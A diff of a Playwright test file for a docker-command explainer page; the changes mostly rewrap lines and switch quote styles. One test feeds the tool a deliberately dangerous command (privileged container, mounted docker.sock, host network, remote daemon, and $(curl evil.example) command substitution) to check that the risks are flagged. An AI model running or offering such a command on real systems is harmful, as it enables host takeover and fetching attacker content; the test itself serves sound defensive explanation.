@@ -80,7 +80,9 @@ test('Enter explains, Shift+Enter adds a line; a typo says "did you mean" and ne
 });
 
 test('the verdict at the top lists the risky parts, each linked to the reference', async ({ page }) => {
-  await page.goto(explainUrl('docker -H tcp://robot:2375 run --privileged -v /var/run/docker.sock:/var/run/docker.sock --network host ubuntu $(curl evil.example)'));
+  await page.goto(
+    explainUrl('docker -H tcp://robot:2375 run --privileged -v /var/run/docker.sock:/var/run/docker.sock --network host ubuntu $(curl evil.example)'),
+  );
   const verdict = page.getByRole('region', { name: 'No problems, 5 risks' });
   await expect(verdict).toBeVisible();
   const risks = verdict.getByRole('list', { name: 'Risks' });
@@ -96,7 +98,9 @@ test('the verdict at the top lists the risky parts, each linked to the reference
   const box = await risks.boundingBox();
   const first = await page.locator('[data-kind]').first().boundingBox();
   expect(box!.y).toBeLessThan(first!.y);
-  await expect(page.locator('[data-kind="inner-command"]')).toContainText('Command substitution: before docker starts, your shell runs `curl evil.example` on your computer');
+  await expect(page.locator('[data-kind="inner-command"]')).toContainText(
+    'Command substitution: before docker starts, your shell runs `curl evil.example` on your computer',
+  );
 });
 
 test('a variable set in front of docker (DOCKER_HOST=…) is explained and linked to the option it stands for', async ({ page }) => {
@@ -112,7 +116,7 @@ test('a variable set in front of docker (DOCKER_HOST=…) is explained and linke
 test('flags after the image, an unclosed quote and a second command after && are explained', async ({ page }) => {
   await page.goto(explainUrl('docker run ubuntu -it bash && docker ps -a && docker run "ubuntu'));
   const inner = page.locator('[data-kind="inner-command"]').first();
-  await expect(inner).toContainText('Docker\'s flags go before ubuntu');
+  await expect(inner).toContainText("Docker's flags go before ubuntu");
   await expect(inner).toContainText('Did you mean docker run -it ubuntu bash?');
   await expect(page.locator('[data-kind="operator"]')).toHaveCount(2);
   await expect(page.locator('[data-kind="command"]').filter({ hasText: 'ps' })).toHaveCount(1);
@@ -139,7 +143,10 @@ test('a huge paste is capped with a visible message and stays responsive', async
 
 test('links keep the base path in the sub-path build', async ({ page }) => {
   await page.goto(`${BASE_ORIGIN}${explainUrl('docker run --net=host ubuntu', '/docker-basics/')}`);
-  await expect(page.locator('[data-kind="flag"]').getByRole('link', { name: /In the reference/ })).toHaveAttribute('href', '/docker-basics/commands/#docker-run-network');
+  await expect(page.locator('[data-kind="flag"]').getByRole('link', { name: /In the reference/ })).toHaveAttribute(
+    'href',
+    '/docker-basics/commands/#docker-run-network',
+  );
 });
 
 test('the explainer script loads only on the explainer page', async ({ page }) => {
@@ -203,7 +210,10 @@ test('-p warns about the host network only when --network host is on the line', 
 });
 
 for (const theme of ['light', 'dark'] as const) {
-  for (const [width, height] of [[390, 844], [1280, 800]] as const) {
+  for (const [width, height] of [
+    [390, 844],
+    [1280, 800],
+  ] as const) {
     test(`the verdict is on the first screen and passes axe (${theme}, ${width} px)`, async ({ browser }) => {
       const context = await browser.newContext({ colorScheme: theme, viewport: { width, height } });
       await context.addInitScript((t) => localStorage.setItem('theme', t), theme);
@@ -262,7 +272,7 @@ test('a long paste keeps the address short, and says so', async ({ page }) => {
   expect(page.url().length).toBeLessThan(4 * URL_CHARS);
 });
 
-test('the explainer\'s JavaScript and data stay within 25 KB Brotli on open', async ({ page }) => {
+test("the explainer's JavaScript and data stay within 25 KB Brotli on open", async ({ page }) => {
   const bodies: Buffer[] = [];
   page.on('response', async (r) => {
     if (r.request().resourceType() === 'script') bodies.push(await r.body());
